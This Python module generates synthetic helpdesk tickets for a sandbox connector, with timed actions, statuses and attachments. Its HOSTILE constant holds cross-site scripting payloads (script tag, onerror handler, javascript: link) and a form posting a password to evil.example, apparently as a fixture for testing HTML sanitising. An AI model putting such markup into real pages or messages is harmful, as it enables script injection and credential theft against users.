"""Writes one ticket's story: its opening, its actions in order of time, its files."""

from __future__ import annotations

import html
import random

from connectors.sandbox.dataset import Record, Story
from connectors.sandbox.generator import closed, pictures, shapes, texts
from connectors.sandbox.generator.pen import Pen
from connectors.sandbox.generator.people import CLEO, OTTO, ZOE
from connectors.sandbox.generator.plan import FIX, HOUR, MINUTE, RESPOND, Slot

WAITS = {
    "waiting": "Waiting on Client",
    "on_hold": "On Hold",
    "third_party": "Waiting on Third Party",
    "pending": "Pending",
}
SPECIAL = {
    ("new", 2): CLEO, ("waiting", 0): CLEO, ("waiting", 1): CLEO, ("progress", 0): CLEO, ("closed",
     5): CLEO, ("closed", 40): CLEO,
    ("closed", 90): CLEO, ("reopened", 1): CLEO, ("new", 4): OTTO, ("waiting", 3): OTTO, ("progress",
     3): OTTO, ("closed", 6): OTTO,
    ("closed", 41): OTTO, ("progress", 1): ZOE, ("closed", 7): ZOE,
}  # fmt: skip
UNICODE = (
    "Drucker im Büro meldet „Papierstau“ – プリンター故障 🖨️",
    "Der Drucker im 2. Stock zeigt seit heute früh „Papierstau“.\n紙は入っています。 Ďakujem! שלום\n— Zoë",
)
HOSTILE = (
    'Newsletter breaks my mail <b>"bold"</b> & more',
    "<p>Forwarded as it came:</p><script>document.title='x'</script><img src=\"https://tracker.example/open.gif\" "
    'height=1><img src=x onerror="alert(\'ticket\')"><a href="javascript:alert(1)">unsubscribe</a>'
    '<form action="https://evil.example/"><input name=password></form><style>body{display:none}</style><p>Help!</p>',
)
FILE_SHARE = 0.075
LAID_OUT = ("at_risk", "due_soon", "breached")
"""Groups whose deadline is set out from now: no closed hour may come between."""


class Writer:
    """Turns slots into stories; one dice, so the order of calls decides the words."""

    def __init__(
        self,
        dice: random.Random,
        now: int,
        contacts: list[Record],
        always: list[Record],
        workers: dict[str, list[int]],
    ) -> None:
        """`always`: contacts for whom the clock runs day and night."""
        self._dice, self._now = dice, now
        self._contacts, self._always = contacts, always
        self._by_id = {contact["id"]: contact for contact in contacts}
        self._workers = workers
        self._action_id = 0
        self._file_id = 0

    def story(self, number: int, slot: Slot) -> Story:
        dice = self._dice
        problem = texts.problem(dice, priority=slot.priority or None)
        special = SPECIAL.get((slot.group, slot.ordinal))
        askers = self._always if slot.group in LAID_OUT else self._contacts
        contact = self._by_id.get(special or 0) or askers[int(dice.random() * len(askers))]
        team = problem.kind.team
        agent = dice.choice(self._workers[team]) if dice.random() > 0.03 else dice.choice((1, 3))
        ticket: Record = {
            "id": number, "client_id": contact["client_id"], "site_id": contact["site_id"], "contact_id": contact["id"],
            "agent_id": agent, "team": team, "type": problem.kind.type, "category": problem.category,
            "priority": problem.priority, "summary": problem.summary, "details": problem.details,
            "source": int(dice.random() * 3),
            "created_at": slot.created_at, "status": "New", "open": True,
        }  # fmt: skip
        if (slot.group, slot.ordinal) in (("progress", 1), ("waiting", 5)):
            ticket["summary"], ticket["details"] = UNICODE if slot.group == "progress" else HOSTILE
        pen = _Groups(ticket, problem.kind, dice, self._now, self.next_action)
        if slot.group == "closed":
            closed.write(pen, shapes.pick(dice), self._workers)
        else:
            getattr(pen, "write_" + (slot.group if slot.group not in WAITS else "waits"))(slot)
        ticket["last_action_at"] = pen.at
        return Story(ticket, pen.actions, self._files(ticket, pen.actions))

    def next_action(self) -> int:
        self._action_id += 1
        return self._action_id

    def _files(self, ticket: Record, actions: list[Record]) -> list[Record]:
        dice = self._dice
        if dice.random() >= FILE_SHARE:
            return []
        self._file_id += 1
        owner = dice.choice(actions) if actions and dice.random() < 0.6 else None
        name, kind, data = pictures.sample(dice)
        guid = f"{self._file_id:08x}-0000-4a00-9000-{ticket['id']:012x}"
        if kind.startswith("image/") and owner is not None:
            text = owner.get("html") or f"<p>{html.escape(owner['body'])}</p>"
            owner["html"] = f'{text}<p><img src="/attachment/image/{guid}" alt="{name}"></p>'
        return [{
            "id": self._file_id, "ticket_id": ticket["id"], "action_id": owner["id"] if owner else None,
            "filename": name,
            "content_type": kind, "created_at": owner["created_at"] if owner else ticket["created_at"],
            "public": not (owner and owner["private"]), "data": data, "guid": guid,
        }]  # fmt: skip


class _Groups(Pen):
    """How the tickets of each group of the open queue came to stand as they do."""

    def write_new(self, slot: Slot) -> None:
        self.ticket["agent_id"] = None

    def write_progress(self, slot: Slot) -> None:
        latest = self.now - self.between(3, 20) * MINUTE
        self.pick_up(min(latest, self.ticket["created_at"] + RESPOND[self.ticket["priority"]] * 0.9))
        self.work(latest)
        if self.dice.random() < 0.25:
            self.to(self.between(self.at, latest))
            self.add("email_in", texts.client_reply(self.dice), client=True)

    write_at_risk = write_due_soon = write_breached = write_progress

    def write_waits(self, slot: Slot) -> None:
        ticket = self.ticket
        fix = ticket["created_at"] + FIX[ticket["priority"]]
        self.pick_up(ticket["created_at"] + RESPOND[ticket["priority"]] * 0.8)
        self.work(ticket["created_at"] + FIX[ticket["priority"]] * 0.5)
        self.to(self.between(self.at, min(fix, self.now)) * 0.5 + self.at * 0.5)
        status = WAITS[slot.group]
        if slot.group == "waiting":
            self.add("email_out", texts.question(self.dice), status=status)
        elif slot.group == "third_party":
            self.add("note", texts.vendor_note(self.dice), private=True, status=status, minutes=10)
        else:
            self.add(
                "note", "Planned for the next maintenance window, agreed with the contact.", private=True, status=status
            )

    def write_reopened(self, slot: Slot) -> None:
        created = self.ticket["created_at"]
        self.pick_up(created + 3 * HOUR)
        self.to(created + self.between(3.5, 9) * HOUR)
        self.resolve()
        self.ticket.pop("resolved_at")
        self.to(self.now - self.between(0.4, 5) * HOUR)
        self.add("email_in", texts.back_again(self.dice), status="In Progress", client=True)

    def write_resolved(self, slot: Slot) -> None:
        created = self.ticket["created_at"]
        self.pick_up(created + RESPOND[self.ticket["priority"]] * 0.8)
        self.work(created + FIX[self.ticket["priority"]] * 0.7)
        self.to(created + FIX[self.ticket["priority"]] * self.between(0.5, 0.95))
        self.resolve()
